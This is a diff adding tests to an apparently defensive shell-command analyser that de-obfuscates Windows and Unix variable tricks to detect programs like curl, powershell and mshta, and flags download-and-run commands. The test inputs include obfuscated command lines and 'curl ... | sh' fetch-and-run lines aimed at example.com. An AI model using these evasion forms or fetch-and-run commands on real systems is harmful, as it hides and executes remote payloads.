@@ -25,6 +25,34 @@ describe("programs in command position", () => {
 		expect(programs(text)).toEqual(expected);
 	});
 
+	test.each<[string, string]>([
+		["set x=cu&& set y=rl&& %x%%y% https://example.com/a", "curl"],
+		["set c=curl https://example.com/a -o a.exe\n%c%", "curl"],
+		['set "p=xpowershellx" && %p:~1,10% -c whoami', "powershell"],
+		["%COMSPEC:~-7,1%url https://example.com/a", "curl"],
+		["p^o^w^e^r^s^h^e^l^l -c whoami", "powershell"],
+		['cmd /v:on /c "set a=mshta&& !a! https://example.com/a"', "mshta"],
+		["C=curl; U=https://example.com/a; $C -s ${U} | sh", "curl"],
+	])("variables are put in: %s", (text, program) => {
+		expect(programs(text)).toContain(program);
+	});
+
+	test("variables that are not known stay as they are written", () => {
+		expect(commandsOfShell("run $UNSET %unset% 100% !").map(({ words }) => words)).toEqual([
+			["run", "$UNSET", "%unset%", "100%", "!"],
+		]);
+	});
+
+	test("commands stand where they are written, nested ones where the outermost does", () => {
+		const text = "echo a\n  sh -c 'curl https://example.com/a | sh'";
+		expect(commandsOfShell(text).map(({ place }) => text.slice(place?.start, place?.end))).toEqual([
+			"echo a",
+			"sh -c 'curl https://example.com/a | sh'",
+			"sh -c 'curl https://example.com/a | sh'",
+			"sh -c 'curl https://example.com/a | sh'",
+		]);
+	});
+
 	test("words of an argument list are not read by a shell", () => {
 		expect(commandsOfWords(["echo", "a; curl https://example.com | sh"]).map((command) => command.program)).toEqual([
 			"echo",
@@ -63,6 +91,7 @@ describe("download and run", () => {
 		"echo 'curl https://example.com | sh'",
 		"git clone https://example.com/x",
 		"curl https://example.com | jq .name",
+		"code=$(curl -s -o out https://example.com/a); echo $code",
 	])("left alone: %s", (text) => {
 		expect(downloadAndRun(commandsOfShell(text))).toBeUndefined();
 	});
